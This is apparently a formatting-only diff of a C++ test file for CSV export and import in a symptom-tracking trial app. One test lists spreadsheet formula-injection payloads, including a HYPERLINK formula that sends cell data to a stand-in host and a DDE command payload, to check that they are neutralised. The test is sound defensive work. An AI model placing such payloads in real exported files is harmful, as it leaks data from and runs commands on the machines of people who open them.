@@ -14,7 +14,8 @@ const pack::Outcome& gut() { return *shipped().find_outcome("gut_symptoms"); }
 
 // The header before the other_product column: such files still import (the
 // tests below that use it show that).
-const char* kHeader = "date,outcome,doses_taken,dose_g,bloating,nausea,gas,belching,abdominal_discomfort,with_food,note,red_flags\n";
+const char* kHeader =
+    "date,outcome,doses_taken,dose_g,bloating,nausea,gas,belching,abdominal_discomfort,with_food,note,red_flags\n";
 const char* kHeaderNow =
     "date,outcome,doses_taken,dose_g,bloating,nausea,gas,belching,abdominal_discomfort,with_food,note,red_flags,"
     "other_product\n";
@@ -52,9 +53,16 @@ TEST(CsvTest, ExportImportExportGivesTheSameBytes) {
 // written as text (a leading apostrophe), and read back as typed, so export,
 // import, export gives the same bytes.
 TEST(CsvTest, NotesThatLookLikeFormulasAreNeutralisedAndReadBackAsTyped) {
-  const std::vector<std::string> hostile = {
-      "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|'/C calc'!A0", "-2+3", "@SUM(A1:A2)",
-      "\t=1+1", "\r=1+1", "'=already quoted", "'plain apostrophe", "fine = not at the start", "ünïcode ✓ <script>"};
+  const std::vector<std::string> hostile = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+                                            "+cmd|'/C calc'!A0",
+                                            "-2+3",
+                                            "@SUM(A1:A2)",
+                                            "\t=1+1",
+                                            "\r=1+1",
+                                            "'=already quoted",
+                                            "'plain apostrophe",
+                                            "fine = not at the start",
+                                            "ünïcode ✓ <script>"};
   std::vector<model::DayEntry> entries;
   for (std::size_t i = 0; i < hostile.size(); ++i) {
     model::DayEntry e;
@@ -93,9 +101,8 @@ TEST(CsvTest, EveryBadFieldIsNamedByLineAndColumn) {
   auto r = from_csv(shipped(), gut(), text);
   ASSERT_FALSE(r);
   auto has = [&](const std::string& where, const std::string& words) {
-    return std::any_of(r.error().begin(), r.error().end(), [&](const Error& e) {
-      return e.where == where && e.message.find(words) != std::string::npos;
-    });
+    return std::any_of(r.error().begin(), r.error().end(),
+                       [&](const Error& e) { return e.where == where && e.message.find(words) != std::string::npos; });
   };
   EXPECT_TRUE(has("line 3, column 1", "not a date"));
   EXPECT_TRUE(has("line 3, column 2", "outcome"));
@@ -113,7 +120,8 @@ TEST(CsvTest, OutcomesFollowTheTrialsScaleAndOtherProductIsChecked) {
   pack::Outcome five = gut();
   five.scale_min = 1;
   five.scale_max = 5;
-  const std::string text = std::string(kHeaderNow) + "2026-12-07,5,,,,,,,,false,,,true\n2026-12-08,6,,,,,,,,false,,,maybe\n"
+  const std::string text = std::string(kHeaderNow) +
+                           "2026-12-07,5,,,,,,,,false,,,true\n2026-12-08,6,,,,,,,,false,,,maybe\n"
                            "2026-12-09,0,,,,,,,,false,,,false\n";
   auto r = from_csv(shipped(), five, text);
   ASSERT_FALSE(r);
@@ -125,7 +133,8 @@ TEST(CsvTest, OutcomesFollowTheTrialsScaleAndOtherProductIsChecked) {
 }
 
 TEST(CsvTest, DatesMustFallWithinTheTrial) {
-  const std::string text = std::string(kHeader) + "2026-12-06,5,,,,,,,,false,,\n2026-12-07,5,,,,,,,,false,,\n"
+  const std::string text = std::string(kHeader) +
+                           "2026-12-06,5,,,,,,,,false,,\n2026-12-07,5,,,,,,,,false,,\n"
                            "2026-12-20,5,,,,,,,,false,,\n2026-12-21,5,,,,,,,,false,,\n";
   auto r = from_csv(shipped(), gut(), text, *Date::parse("2026-12-07", ""), *Date::parse("2026-12-20", ""));
   ASSERT_FALSE(r);
